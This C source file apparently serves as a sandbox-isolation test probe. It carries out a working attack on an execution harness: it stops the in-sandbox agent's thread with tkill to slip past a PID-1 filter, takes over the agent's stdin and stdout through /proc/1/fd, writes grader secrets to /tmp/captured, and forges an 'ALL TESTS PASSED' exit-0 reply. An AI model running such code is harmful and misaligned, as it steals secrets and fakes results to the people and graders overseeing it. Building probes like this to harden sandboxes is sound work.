/* A leftover process that tries to become the agent: after DELAY_MS it
 * stops PID 1 by SIGSTOPping one of its threads other than the main one
 * (tkill by thread id, which a filter on pid 1 does not see), then opens
 * PID 1's stdin and stdout through /proc/1/fd and answers corral's next
 * Exec itself: Started, "ALL TESTS PASSED", exit 0, keeping the Exec's
 * payload (its environment, a grader's secrets) in /tmp/captured (only
 * once PID 1 is stopped). It lets PID 1 go on after one forged answer or
 * after 15 s. Every step is
 * logged on stdout: "tkill refused", "fd0 refused", "forged ID", ...
 * Usage: tkill-hijack DELAY_MS */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static int tids[256];
static int ntids;

static void put32(unsigned char *p, unsigned v) {
    p[0] = v >> 24; p[1] = v >> 16; p[2] = v >> 8; p[3] = v;
}

static void frame(int fd, int kind, unsigned id, const char *payload) {
    unsigned char h[9];
    size_t n = strlen(payload);
    h[0] = kind;
    put32(h + 1, id);
    put32(h + 5, n);
    if (write(fd, h, 9) != 9 || write(fd, payload, n) != (ssize_t)n)
        printf("write to fd1 failed: %s\n", strerror(errno));
}

static void resume(void) {
    for (int i = 0; i < ntids; i++) syscall(SYS_tkill, tids[i], SIGCONT);
    kill(1, SIGCONT);
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IONBF, 0);
    usleep((argc > 1 ? atoi(argv[1]) : 1000) * 1000);
    DIR *d = opendir("/proc/1/task");
    if (!d) { printf("no /proc/1/task: %s\n", strerror(errno)); return 1; }
    struct dirent *e;
    while ((e = readdir(d)) && ntids < 256) {
        int t = atoi(e->d_name);
        if (t > 1) tids[ntids++] = t;
    }
    closedir(d);
    int stopped = 0;
    for (int i = 0; i < ntids && !stopped; i++) {
        if (syscall(SYS_tkill, tids[i], SIGSTOP) == 0) {
            stopped = 1;
            printf("tkill %d sent\n", tids[i]);
        } else {
            printf("tkill %d refused: %s\n", tids[i], strerror(errno));
        }
    }
    if (!stopped) printf("tkill refused\n");
    usleep(100000);
    int in = open("/proc/1/fd/0", O_RDONLY | O_NONBLOCK);
    printf(in < 0 ? "fd0 refused: %s\n" : "fd0 open%s\n", in < 0 ? strerror(errno) : "");
    int out = open("/proc/1/fd/1", O_WRONLY);
    printf(out < 0 ? "fd1 refused: %s\n" : "fd1 open%s\n", out < 0 ? strerror(errno) : "");
    /* The agent must be stopped to be spoken for: reading its stdin while
     * it runs races it (another attack, the trust-forge cases'). */
    if (in < 0 || out < 0 || !stopped) { resume(); return 0; }
    /* Take corral's frames off PID 1's stdin and answer its next Exec. */
    static unsigned char buf[1 << 20];
    size_t len = 0;
    time_t end = time(NULL) + 15;
    while (time(NULL) < end) {
        struct pollfd p = { .fd = in, .events = POLLIN };
        if (poll(&p, 1, 200) <= 0) continue;
        ssize_t n = read(in, buf + len, sizeof buf - len);
        if (n <= 0) continue;
        len += n;
        for (size_t i = 0; i + 9 <= len; i++) {
            unsigned id = buf[i+1] << 24 | buf[i+2] << 16 | buf[i+3] << 8 | buf[i+4];
            unsigned plen = buf[i+5] << 24 | buf[i+6] << 16 | buf[i+7] << 8 | buf[i+8];
            if (buf[i] != 2 || plen > len - i - 9 || plen < 8 || memcmp(buf + i + 9, "{\"argv\"", 7) != 0)
                continue;
            FILE *f = fopen("/tmp/captured", "a");
            if (f) { fwrite(buf + i + 9, 1, plen, f); fputc('\n', f); fclose(f); }
            frame(out, 65, id, "{\"pid\":1}");
            frame(out, 66, id, "ALL TESTS PASSED\n");
            frame(out, 70, id, "{\"exit_code\":0,\"signal\":null,\"timed_out\":false,\"oom_killed\":false,\"duration_us\":1,\"stdout\":{\"total_bytes\":17,\"truncated\":false},\"stderr\":{\"total_bytes\":0,\"truncated\":false}}");
            printf("forged %u\n", id);
            resume();
            return 0;
        }
    }
    printf("no Exec seen\n");
    resume();
    return 0;
}
